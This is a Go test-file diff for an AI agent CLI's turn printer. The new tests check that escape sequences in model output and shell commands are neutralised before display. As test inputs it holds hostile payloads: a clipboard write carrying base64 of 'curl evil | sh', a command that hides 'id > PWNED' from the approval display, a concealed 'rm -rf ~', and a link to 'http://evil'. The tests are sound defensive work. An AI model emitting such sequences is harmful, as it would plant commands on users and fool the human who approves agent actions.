@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"encoding/json"
 	"strings"
 	"sync"
 	"testing"
@@ -41,7 +42,7 @@ func TestTurnPrinterLive(t *testing.T) {
 	for _, jsonl := range []bool{false, true} {
 		st := &streams{data: map[string]string{}}
 		var out testkit.SyncBuffer
-		p := newTurnPrinter(t.Context(), &out, jsonl, 1, st.read)
+		p := newTurnPrinter(t.Context(), &out, jsonl, "s1", 1, st.read)
 		call := agent.CallState{ID: "c1", Name: "shell", Arguments: `{"command":"make test"}`, Status: agent.StatusRunning,
 			Stdout: "o", Stderr: "e"}
 		state := func(c agent.CallState) agent.State {
@@ -107,5 +108,76 @@ func waitUntil(t *testing.T, cond func() bool) {
 			t.Fatal("timed out")
 		}
 		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// TestTurnPrinterSafe: in text, nothing from the model or the sandbox
+// acts on the terminal, even cut between two reads, and a command
+// awaiting approval shows every character; -o jsonl gives it all as it
+// is.
+func TestTurnPrinterSafe(t *testing.T) {
+	command := "id > PWNED; echo x #\r\x1b[2Kls -la"
+	args, err := json.Marshal(map[string]string{"command": command})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, jsonl := range []bool{false, true} {
+		st := &streams{data: map[string]string{}}
+		var out testkit.SyncBuffer
+		p := newTurnPrinter(t.Context(), &out, jsonl, "s1", 1, st.read)
+		// The model's text brings a clipboard write, cut in two.
+		if err := p.see(agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusThinking, Stream: "t1"}}); err != nil {
+			t.Fatal(err)
+		}
+		st.set("t1", "Looking\x1b]52;c;")
+		waitUntil(t, func() bool { return strings.Contains(out.String(), "Looking") })
+		st.set("t1", "Looking\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 around.")
+		call := agent.CallState{ID: "c1", Name: "shell", Arguments: string(args), Status: agent.StatusApproval}
+		state := agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusApproval, Calls: []agent.CallState{call}}}
+		if err := p.see(state); err != nil {
+			t.Fatal(err)
+		}
+		call.Status, call.Output = agent.StatusDone, "exit code 0\n\x1b]0;owned\x07\x1b[2Jtotal 0\n"
+		if err := p.finish(agent.TurnState{Number: 1, Status: agent.StatusDone, Answer: "Done \x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\.",
+			Calls: []agent.CallState{call}}); err != nil {
+			t.Fatal(err)
+		}
+		p.stop()
+		got := out.String()
+		if jsonl {
+			for _, raw := range []string{`Y3VybCBldmlsIHwgc2g=\u0007`, `#\\r\\u001b[2Kls -la`, `\u001b]0;owned`} {
+				if !strings.Contains(got, raw) {
+					t.Errorf("jsonl: %s not given as it is in\n%s", raw, got)
+				}
+			}
+			continue
+		}
+		want := "Looking around.\n" +
+			"$ id > PWNED; echo x #␍␛[2Kls -la\n" +
+			"  awaiting approval: berth session approve s1 c1 (or deny s1 c1)\n" +
+			"  exit code 0\n  total 0\n" +
+			"Done here.\n"
+		if got != want {
+			t.Errorf("printed\n%q\nwant\n%q", got, want)
+		}
+	}
+}
+
+// TestPrintStateSafe: session show cleans what it prints the same way.
+func TestPrintStateSafe(t *testing.T) {
+	args, err := json.Marshal(map[string]string{"command": "true\x1b[1A\x1b[2Krm -rf ~"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	st := agent.State{Status: agent.StatusIdle, Turns: []agent.TurnState{{Number: 1, Status: agent.StatusDone,
+		Message: "hi\x1b]0;t\x07", Answer: "ok\x1b[31m!", Calls: []agent.CallState{{ID: "c1", Name: "shell", Arguments: string(args),
+			Said: "let me\x1b]52;c;eA==\x07 see"}}}}}
+	var b strings.Builder
+	if err := printState(&b, "s1", st); err != nil {
+		t.Fatal(err)
+	}
+	want := "session s1: idle, sandbox -, 0 messages, 0 tokens\n\n> hi\nlet me see\n$ true␛[1A␛[2Krm -rf ~\nok!\n"
+	if b.String() != want {
+		t.Errorf("printed\n%q\nwant\n%q", b.String(), want)
 	}
 }
